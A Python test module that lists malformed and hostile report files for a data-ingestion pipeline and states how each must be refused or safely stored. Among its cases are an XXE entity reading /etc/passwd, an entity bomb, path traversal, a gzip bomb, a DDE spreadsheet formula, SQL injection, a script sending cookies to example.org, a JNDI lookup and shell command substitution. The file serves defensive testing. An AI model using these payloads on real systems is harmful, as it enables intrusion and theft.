"""Every way in which a report is damaged or made to harm, and exactly what must become of it.

Belongs here: mutations, each a function from a sound report to bytes and the expected outcome; None where the feed has
nothing to damage in that way. Does not belong: taking them in (`test_corpus.py`).

Outcomes: `Refused` (nothing of the file is kept; words that the error must hold) or `Loaded` (so many rows to bronze
and to quarantine, the quarantined ones for exactly these reasons). `same`: bronze holds what the sound report gives.
`verbatim`: this text is in bronze as it was written.
"""

from __future__ import annotations

import gzip
import io
import json
import random
import zipfile
from collections.abc import Callable
from dataclasses import dataclass

from data_contracts.feed import Kind
from data_contracts.settings import Limits
from tests.corpus.sound import ROWS, Sound, sound_reports

SMALL = Limits(max_line_bytes=64 << 10, ratio_counts_from_bytes=1 << 20, max_unpacked_bytes=8 << 20)


@dataclass(frozen=True)
class Refused:
    """The file is refused as a whole; its error has these words."""

    words: tuple[str, ...]


@dataclass(frozen=True)
class Loaded:
    """The file is taken: rows to bronze, rows to quarantine and why."""

    bronze: int = ROWS
    bad: int = 0
    reasons: frozenset[str] = frozenset()
    same: bool = False
    verbatim: str | None = None


@dataclass(frozen=True)
class Case:
    """A malformed file."""

    content: bytes
    expected: Refused | Loaded
    file_name: str = "report.txt"
    limits: Limits | None = None


Mutation = Callable[[Sound], Case | None]
MUTATIONS: dict[str, Mutation] = {}


def mutation(work: Mutation) -> Mutation:
    """Put a function into the list, under its name in words."""
    MUTATIONS[work.__name__.replace("_", " ")] = work
    return work


def refused(content: bytes | str, *words: str, **more: object) -> Case:
    """A file that must be refused."""
    return Case(content.encode() if isinstance(content, str) else content, Refused(words), **more)  # type: ignore[arg-type]


def loaded(content: bytes | str, **more: object) -> Case:
    """A file that must load whole, alike to the sound one."""
    return Case(content.encode() if isinstance(content, str) else content, Loaded(same=True), **more)  # type: ignore[arg-type]


def bad_value(sound: Sound, kinds: tuple[Kind, ...], text: str, *reasons: str) -> Case | None:
    """One value of the first column of a kind is bad: its row is quarantined. `{}` in a reason is the column."""
    column = sound.of_kind(*kinds)
    if column is None:
        return None
    found = frozenset(reason.format(column.name) for reason in reasons or (f"bad_{column.kind}:{{}}",))
    return Case(sound.with_value(column, text).text.encode(), Loaded(ROWS - 1, 1, found))


# --- nothing, or something else altogether ----------------------------------------------------------------------------


@mutation
def empty_file(sound: Sound) -> Case:
    return refused(b"", "is empty")


@mutation
def blank_lines_only(sound: Sound) -> Case:
    return refused(b" \r\n\t\r\n" * 50, "is empty")


@mutation
def only_a_byte_order_mark(sound: Sound) -> Case:
    return refused(b"\xef\xbb\xbf", "is empty")


@mutation
def gzip_of_nothing(sound: Sound) -> Case:
    return refused(gzip.compress(b""), "is empty")


@mutation
def web_page(sound: Sound) -> Case:
    return refused(f"<!DOCTYPE html><html><body><pre>{sound.text}</pre></body></html>", "web page", "line 1")


@mutation
def web_page_behind_a_byte_order_mark(sound: Sound) -> Case:
    return refused(b"\xef\xbb\xbf\r\n<HTML><head><title>503 Slow Down</title></head></HTML>", "web page")


@mutation
def error_answer_of_the_storage(sound: Sound) -> Case:
    text = "<?xml version='1.0'?><Error><Code>AccessDenied</Code><Message>Request has expired</Message></Error>"
    return refused(text, "error answer", "AccessDenied", "Request has expired")


@mutation
def error_answer_in_json(sound: Sound) -> Case:
    return refused('{"errors":[{"code":"QuotaExceeded","message":"slow down"}]}', "error answer", "QuotaExceeded")


@mutation
def list_of_json_objects(sound: Sound) -> Case:
    rows = [dict(zip(sound.headers, row, strict=True)) for row in sound.rows]
    return refused(json.dumps(rows), "does not hold one object per line", "line 1")


@mutation
def json_a_hundred_thousand_deep(sound: Sound) -> Case:
    return refused(b"[" * 100_000, "does not hold one object per line")


@mutation
def json_objects_a_hundred_thousand_deep(sound: Sound) -> Case:
    return refused(b'{"a":' * 100_000, "does not hold one object per line")


@mutation
def a_deep_value_in_a_json_line(sound: Sound) -> Case:
    rows = [json.dumps(dict(zip(sound.headers, row, strict=True))) for row in sound.rows]
    rows[1] = rows[1][:-1] + ',"deep":' + "[" * 5_000 + "]" * 5_000 + "}"
    return Case("\n".join([*rows, ""]).encode(), Loaded(ROWS - 1, 1, frozenset({"not_an_object"})))


@mutation
def a_json_line_that_is_no_object(sound: Sound) -> Case:
    rows = [json.dumps(dict(zip(sound.headers, row, strict=True))) for row in sound.rows]
    rows[2] = "[1, 2, 3]"
    return Case("\n".join([*rows, ""]).encode(), Loaded(ROWS - 1, 1, frozenset({"not_an_object"})))


@mutation
def json_cut_off(sound: Sound) -> Case:
    rows = "".join(json.dumps(dict(zip(sound.headers, row, strict=True))) + "\n" for row in sound.rows)
    return refused(rows[: len(rows) - 20], "cut off in its last line", f"line {ROWS}")


@mutation
def json_lines_with_carriage_returns(sound: Sound) -> Case:
    rows = "".join(json.dumps(dict(zip(sound.headers, row, strict=True))) + "\r\n" for row in sound.rows)
    return Case(rows.encode(), Loaded(ROWS))


BOMB = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))


@mutation
def xml_entities_that_multiply(sound: Sound) -> Case:
    text = f'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY l0 "lol">{BOMB}]><a><b>&l9;</b></a>'
    return refused(text, "entities or a document type")


@mutation
def xml_entity_that_reads_a_file(sound: Sound) -> Case:
    text = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a><asin>&x;</asin></a>'
    return refused(text, "entities or a document type")


@mutation
def xml_cut_off(sound: Sound) -> Case:
    return refused("<report><row>" + "".join(f"<{h}>1</{h}>" for h in sound.headers), "XML is cut off")


@mutation
def xml_that_closes_the_wrong_element(sound: Sound) -> Case:
    return refused("<report><row><a>1</row></a></report>", "not well-formed", "line 1")


@mutation
def xml_fifty_thousand_deep(sound: Sound) -> Case:
    return refused("<a>" * 50_000 + "</a>" * 50_000, "nested more than 100 deep")


# --- containers -------------------------------------------------------------------------------------------------------


@mutation
def zip_archive(sound: Sound) -> Case:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr("../../report.txt", sound.text)
    return refused(packed.getvalue(), "zip archive or an Excel workbook", "Unpack it")


@mutation
def excel_workbook(sound: Sound) -> Case:
    from openpyxl import Workbook

    book = Workbook()
    for line in (sound.headers, *sound.rows):
        book.active.append(line)
    saved = io.BytesIO()
    book.save(saved)
    return refused(saved.getvalue(), "zip archive or an Excel workbook", "save the sheet")


@mutation
def old_excel_workbook(sound: Sound) -> Case:
    return refused(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500), "old Excel workbook")


@mutation
def pdf(sound: Sound) -> Case:
    return refused(b"%PDF-1.7\n" + sound.text.encode(), "PDF")


@mutation
def packed_with_bzip2(sound: Sound) -> Case:
    import bz2

    return refused(bz2.compress(sound.text.encode()), "bzip2")


@mutation
def packed_with_xz(sound: Sound) -> Case:
    import lzma

    return refused(lzma.compress(sound.text.encode()), "xz")


@mutation
def parquet(sound: Sound) -> Case:
    import pyarrow as pa
    import pyarrow.parquet as pq

    saved = pa.BufferOutputStream()
    pq.write_table(pa.table({name: ["1"] for name in sound.headers}), saved)
    return refused(saved.getvalue().to_pybytes(), "parquet")


@mutation
def gzip_in_gzip(sound: Sound) -> Case:
    return refused(gzip.compress(gzip.compress(sound.text.encode())), "packed twice")


@mutation
def gzip_cut_off(sound: Sound) -> Case:
    packed = gzip.compress(sound.text.encode())
    return refused(packed[: len(packed) * 2 // 3], "gzip file is cut off")


@mutation
def gzip_with_a_wrong_checksum(sound: Sound) -> Case:
    packed = bytearray(gzip.compress(sound.text.encode()))
    packed[-8] ^= 0xFF
    return refused(bytes(packed), "gzip file is damaged")


@mutation
def gzip_with_rubbish_behind_it(sound: Sound) -> Case:
    return refused(gzip.compress(sound.text.encode()) + b"rubbish behind", "gzip file is damaged")


@mutation
def gzip_bomb(sound: Sound) -> Case:
    bomb = gzip.compress((sound.text + "\t" * (12 << 20)).encode())
    return refused(bomb, "unpacks to more than", "[limits]", limits=SMALL)


@mutation
def gzip_in_two_members(sound: Sound) -> Case:
    text = sound.text.encode()
    return loaded(gzip.compress(text[:70]) + gzip.compress(text[70:]))


# --- bytes and charsets -----------------------------------------------------------------------------------------------


@mutation
def noise(sound: Sound) -> Case:
    dice = random.Random(sound.feed.name)
    return refused(bytes([0x81, 0, *dice.randbytes(5_000)]), "none of the charsets", "line 1")


@mutation
def control_characters(sound: Sound) -> Case:
    return refused(bytes(range(1, 32)) * 100, "binary data")


@mutation
def a_nul_byte(sound: Sound) -> Case:
    lines = sound.text.split("\r\n")
    lines[2] = lines[2][:3] + "\0" + lines[2][3:]
    return refused("\r\n".join(lines), "NUL", "line 3")


@mutation
def utf16_without_a_mark(sound: Sound) -> Case:
    return refused(sound.text.encode("utf-16-le"), "NUL")


@mutation
def utf16_cut_in_a_character(sound: Sound) -> Case:
    return refused(sound.text.encode("utf-16")[:-1], "middle of a character")


@mutation
def utf8_cut_in_a_character(sound: Sound) -> Case | None:
    column = sound.free_text
    if column is None:
        return None
    text = sound.with_value(column, "Größe 号").text.encode()
    cut = text.replace(b"\r\n", b"\n").rstrip(b"\n") + "é".encode()[:1]
    return refused(cut, "middle of a character", f"line {ROWS + 1}")


@mutation
def bytes_of_no_charset(sound: Sound) -> Case | None:
    column = sound.free_text
    if column is None:
        return None
    return refused(sound.with_value(column, "\x81\x8d").text.encode("latin-1"), "none of the charsets", "line 3")


@mutation
def windows_charset(sound: Sound) -> Case | None:
    column = sound.free_text
    if column is None:
        return None
    text = sound.with_value(column, "Größe – 5 €")
    return Case(text.text.encode("cp1252"), Loaded(verbatim="Größe – 5 €"))


@mutation
def utf8_with_a_mark(sound: Sound) -> Case:
    return loaded(b"\xef\xbb\xbf" + sound.text.encode())


@mutation
def utf16_with_a_mark(sound: Sound) -> Case:
    return loaded(sound.text.encode("utf-16"))


@mutation
def big_endian_utf16(sound: Sound) -> Case:
    return loaded(b"\xfe\xff" + sound.text.encode("utf-16-be"))


@mutation
def a_mark_that_lies(sound: Sound) -> Case:
    return refused(b"\xff\xfe" + sound.text.encode() + b"\xd8", "middle of a character")


@mutation
def a_byte_order_mark_within(sound: Sound) -> Case | None:
    column = sound.free_text
    if column is None:
        return None
    return Case(sound.with_value(column, "a\ufeffb").text.encode(), Loaded(verbatim="a\ufeffb"))


@mutation
def letters_that_turn_the_direction(sound: Sound) -> Case | None:
    column = sound.free_text
    if column is None:
        return None
    value = "a\u202efdp.exe\u2066\u200b"
    return Case(sound.with_value(column, value).text.encode(), Loaded(verbatim=value))


# --- headers ----------------------------------------------------------------------------------------------------------


@mutation
def rows_without_a_header(sound: Sound) -> Case:
    return refused("".join("\t".join(row) + "\r\n" for row in sound.rows), "lacks", "line 1")


@mutation
def header_lacks_a_required_column(sound: Sound) -> Case:
    gone = sound.position(sound.feed.required[-1])
    lines = ["\t".join(v for i, v in enumerate(line) if i != gone) for line in (sound.headers, *sound.rows)]
    return refused("\r\n".join([*lines, ""]), "lacks", sound.feed.required[-1].name)


@mutation
def a_column_appears_twice(sound: Sound) -> Case:
    column = sound.feed.required[0]
    lines = ["\t".join((*line, line[sound.position(column)])) for line in (sound.headers, *sound.rows)]
    return refused("\r\n".join([*lines, ""]), "twice", column.name, "line 1")


@mutation
def a_column_appears_twice_in_another_spelling(sound: Sound) -> Case:
    column = sound.feed.required[0]
    other = column.name.upper().replace("_", "-")
    lines = ["\t".join((*sound.headers, other)), *("\t".join((*row, "other")) for row in sound.rows)]
    return refused("\r\n".join([*lines, ""]), "twice", other, "line 1")


@mutation
def another_report(sound: Sound) -> Case:
    other = next(one for one in sound_reports() if one.feed.name == _UNLIKE.get(sound.feed.name, "orders"))
    return refused(other.text, f"--feed {other.feed.name}")


_UNLIKE = {"orders": "settlements"}


@mutation
def columns_in_another_order(sound: Sound) -> Case:
    order = list(range(len(sound.columns)))
    random.Random(sound.feed.name).shuffle(order)
    lines = ["\t".join(line[i] for i in order) for line in (sound.headers, *sound.rows)]
    return loaded("\r\n".join([*lines, ""]))


@mutation
def headers_in_capitals_and_blanks(sound: Sound) -> Case:
    headers = "\t".join(f"  {name.upper().replace('_', '-')} " for name in sound.headers)
    return loaded(headers + "\r\n" + sound.text.split("\r\n", 1)[1])


@mutation
def unknown_columns(sound: Sound) -> Case:
    lines = ["\t".join(("new one", *line, "another")) for line in (sound.headers, *sound.rows)]
    return loaded("\r\n".join([*lines, ""]))


@mutation
def ten_thousand_unknown_columns(sound: Sound) -> Case:
    more = [f"x{n}" for n in range(10_000)]
    lines = ["\t".join((*line, *more)) for line in (sound.headers, *sound.rows)]
    return loaded("\r\n".join([*lines, ""]))


@mutation
def header_only(sound: Sound) -> Case:
    return Case(("\t".join(sound.headers) + "\r\n").encode(), Loaded(0))


@mutation
def lines_before_the_header(sound: Sound) -> Case:
    return loaded('"Report of 2026-01-05"\r\n\r\n' + sound.text)


@mutation
def the_header_again_in_the_middle(sound: Sound) -> Case | None:
    """Two downloads put together: the second header is a row of words."""
    words = [
        f"bad_{column.kind}:{column.name}"
        if column.kind is not Kind.TEXT
        else f"pattern:{column.name}"
        if column.pattern
        else f"not_allowed:{column.name}"
        if column.allowed
        else ""
        for column in sound.columns
    ]
    reasons = ";".join(word for word in words if word)
    lines = sound.text.split("\r\n")
    return Case("\r\n".join([*lines[:3], lines[0], *lines[3:]]).encode(), Loaded(ROWS, 1, frozenset({reasons})))


# --- lines and fields -------------------------------------------------------------------------------------------------


@mutation
def cut_off_in_its_last_row(sound: Sound) -> Case:
    required = max(sound.position(column) for column in sound.feed.required)
    cut = "\r\n".join(sound.text.split("\r\n")[:-2]) + "\r\n" + "\t".join(sound.rows[-1][:required])
    if required == 0:
        return Case(cut.encode(), Loaded(ROWS - 1))
    return refused(cut, "cut off", f"line {ROWS + 1}")


@mutation
def a_short_row(sound: Sound) -> Case | None:
    required = max(sound.position(column) for column in sound.feed.required)
    if required == 0:
        return None
    lines = sound.text.split("\r\n")
    lines[2] = "\t".join(sound.rows[1][:required])
    reasons = frozenset({"too_few_fields"})
    return Case("\r\n".join(lines).encode(), Loaded(ROWS - 1, 1, reasons))


@mutation
def a_long_row(sound: Sound) -> Case:
    lines = sound.text.split("\r\n")
    lines[2] += "\tmore"
    return Case("\r\n".join(lines).encode(), Loaded(ROWS - 1, 1, frozenset({"too_many_fields"})))


@mutation
def a_row_of_a_hundred_thousand_tabs(sound: Sound) -> Case:
    lines = sound.text.split("\r\n")
    lines[2] += "\t" * 100_000
    return loaded("\r\n".join(lines))


@mutation
def a_row_of_tabs(sound: Sound) -> Case:
    """Blank in every column: quarantined for each that may not be."""
    blank = ";".join(f"blank:{column.name}" for column in sound.columns if not column.nullable)
    lines = sound.text.split("\r\n")
    lines.insert(2, "\t" * (len(sound.columns) - 1))
    if not blank:
        return Case("\r\n".join(lines).encode(), Loaded(ROWS + 1))
    return Case("\r\n".join(lines).encode(), Loaded(ROWS, 1, frozenset({blank})))


@mutation
def a_line_without_end(sound: Sound) -> Case:
    lines = sound.text.split("\r\n")
    lines[3] += "x" * 100_000
    return refused("\r\n".join(lines), "line is longer than", "line 4", limits=SMALL)


@mutation
def carriage_returns_only(sound: Sound) -> Case:
    return loaded(sound.lines("\r"))


@mutation
def line_feeds_only(sound: Sound) -> Case:
    return loaded(sound.lines("\n"))


@mutation
def mixed_line_ends(sound: Sound) -> Case:
    lines = sound.text.split("\r\n")
    return loaded(lines[0] + "\n" + lines[1] + "\r\n" + lines[2] + "\n" + "\r\n".join(lines[3:]))


@mutation
def blank_lines_between_and_behind(sound: Sound) -> Case:
    return loaded(sound.text.replace("\r\n", "\r\n\r\n") + "\r\n" * 30)


@mutation
def no_line_end_at_the_end(sound: Sound) -> Case:
    return loaded(sound.text.rstrip("\r\n"))


@mutation
def an_end_of_file_mark_of_dos(sound: Sound) -> Case:
    return loaded(sound.text + "\x1a")


@mutation
def tabs_behind_every_row(sound: Sound) -> Case:
    return loaded(sound.text.replace("\r\n", "\t\t\t\r\n"))


@mutation
def commas_instead_of_tabs(sound: Sound) -> Case:
    return loaded(sound.lines("\r\n", ","))


@mutation
def semicolons_instead_of_tabs(sound: Sound) -> Case:
    return loaded(sound.lines("\r\n", ";"))


@mutation
def pipes_instead_of_tabs(sound: Sound) -> Case:
    return loaded(sound.lines("\n", "|"))


@mutation
def a_quote_that_never_closes(sound: Sound) -> Case:
    lines = sound.lines("\n", ",").split("\n")
    lines[2] = '"' + lines[2]
    return refused("\n".join(lines), "quote is opened and never closed", "line 3")


@mutation
def a_quote_that_closes_two_lines_on(sound: Sound) -> Case | None:
    column = sound.free_text
    if column is None:
        return None
    changed = sound.with_value(column, '"two\nlines, and a ""word"""')
    return Case(changed.lines("\n", ",").encode(), Loaded(verbatim='two\nlines, and a "word"'))


@mutation
def quotes_as_content_of_a_tsv(sound: Sound) -> Case | None:
    column = sound.free_text
    if column is None:
        return None
    return Case(sound.with_value(column, '5" x 7", "a').text.encode(), Loaded(verbatim='5" x 7", "a'))


@mutation
def a_value_of_a_megabyte(sound: Sound) -> Case | None:
    column = sound.free_text
    if column is None:
        return None
    value = "word " * 200_000 + "end"
    return Case(sound.with_value(column, value).text.encode(), Loaded(verbatim=value))


@mutation
def two_thousand_equal_rows(sound: Sound) -> Case:
    return Case((sound.text + ("\t".join(sound.rows[0]) + "\r\n") * 2_000).encode(), Loaded(ROWS + 2_000))


# --- values -----------------------------------------------------------------------------------------------------------


@mutation
def a_required_value_is_blank(sound: Sound) -> Case | None:
    column = next((column for column in sound.columns if not column.nullable), None)
    if column is None:
        return None
    return Case(sound.with_value(column, "  ").text.encode(), Loaded(ROWS - 1, 1, frozenset({f"blank:{column.name}"})))


@mutation
def an_integer_of_four_hundred_digits(sound: Sound) -> Case | None:
    return bad_value(sound, (Kind.INTEGER,), "9" * 400)


@mutation
def an_integer_in_words(sound: Sound) -> Case | None:
    return bad_value(sound, (Kind.INTEGER,), "lots")


@mutation
def an_integer_with_half_a_unit(sound: Sound) -> Case | None:
    return bad_value(sound, (Kind.INTEGER,), "1.5")


@mutation
def an_integer_in_hexadecimal(sound: Sound) -> Case | None:
    return bad_value(sound, (Kind.INTEGER,), "0x10")


@mutation
def an_integer_below_the_least(sound: Sound) -> Case | None:
    column = next((c for c in sound.columns if c.kind is Kind.INTEGER and c.minimum is not None), None)
    if column is None:
        return None
    reasons = frozenset({f"below_minimum:{column.name}"})
    return Case(sound.with_value(column, "-7").text.encode(), Loaded(ROWS - 1, 1, reasons))


@mutation
def money_that_is_not_a_number(sound: Sound) -> Case | None:
    return bad_value(sound, (Kind.MONEY,), "NaN")


@mutation
def money_without_end(sound: Sound) -> Case | None:
    return bad_value(sound, (Kind.MONEY,), "Infinity")


@mutation
def money_of_a_hundred_digits(sound: Sound) -> Case | None:
    return bad_value(sound, (Kind.MONEY,), "9" * 100 + ".00")


@mutation
def money_in_exponents(sound: Sound) -> Case | None:
    return bad_value(sound, (Kind.MONEY,), "1e308")


@mutation
def money_as_a_formula(sound: Sound) -> Case | None:
    return bad_value(sound, (Kind.MONEY,), "=SUM(A1:A9)")


@mutation
def the_month_of_thirteen(sound: Sound) -> Case | None:
    return bad_value(sound, (Kind.MOMENT,), "2026-13-05T10:00:00+00:00")


@mutation
def the_thirtieth_of_february(sound: Sound) -> Case | None:
    return bad_value(sound, (Kind.MOMENT,), "2026-02-30")


@mutation
def the_year_nought(sound: Sound) -> Case | None:
    return bad_value(sound, (Kind.MOMENT,), "0000-01-01T00:00:00Z")


@mutation
def the_year_nine_thousand(sound: Sound) -> Case | None:
    return bad_value(sound, (Kind.MOMENT,), "9999-12-31T23:59:59Z")


@mutation
def a_date_of_three_hundred_digits(sound: Sound) -> Case | None:
    return bad_value(sound, (Kind.MOMENT,), "2026-01-" + "0" * 300 + "5")


@mutation
def an_offset_of_ninety_hours(sound: Sound) -> Case | None:
    return bad_value(sound, (Kind.MOMENT,), "2026-01-05T10:00:00+90:00")


@mutation
def an_asin_with_markup(sound: Sound) -> Case | None:
    column = next((column for column in sound.columns if column.name == "asin" and column.pattern), None)
    if column is None:
        return None
    text = sound.with_value(column, "<b>B1</b>").text
    return Case(text.encode(), Loaded(ROWS - 1, 1, frozenset({"pattern:asin"})))


# --- what others might execute ----------------------------------------------------------------------------------------


def hostile(sound: Sound, value: str) -> Case | None:
    """Text that must stay text."""
    column = sound.free_text
    if column is None:
        return None
    return Case(sound.with_value(column, value).text.encode(), Loaded(verbatim=value))


@mutation
def a_formula(sound: Sound) -> Case | None:
    return hostile(sound, "=cmd|'/C touch canary'!A1")


@mutation
def a_formula_behind_a_sign(sound: Sound) -> Case | None:
    return hostile(sound, '+HYPERLINK("http://example.org/"&A1,"refund")')


@mutation
def a_statement(sound: Sound) -> Case | None:
    return hostile(sound, "'; drop schema marts cascade; copy (select 1) to 'canary'; --")


@mutation
def a_script(sound: Sound) -> Case | None:
    return hostile(sound, "<script>fetch('http://example.org/?'+document.cookie)</script><img src=x onerror=alert(1)>")


@mutation
def a_template(sound: Sound) -> Case | None:
    return hostile(sound, "{{ run_query('drop table x') }}{% for i in range(9) %}${jndi:ldap://example.org/a}%s%n")


@mutation
def a_command(sound: Sound) -> Case | None:
    return hostile(sound, "$(touch canary) `touch canary` ; touch canary & | touch canary")


@mutation
def a_name_with_a_path(sound: Sound) -> Case:
    return loaded(sound.text, file_name="../../../../canary")


@mutation
def a_name_with_a_statement(sound: Sound) -> Case:
    return loaded(sound.text, file_name="'; drop table control.pulls; --.txt")


@mutation
def a_name_with_a_line_break(sound: Sound) -> Case:
    return loaded(sound.text, file_name="a\nb\t\x1b[31m.txt")


@mutation
def a_name_of_a_pattern(sound: Sound) -> Case:
    return loaded(sound.text, file_name="[*]?{a,b}%00.txt")
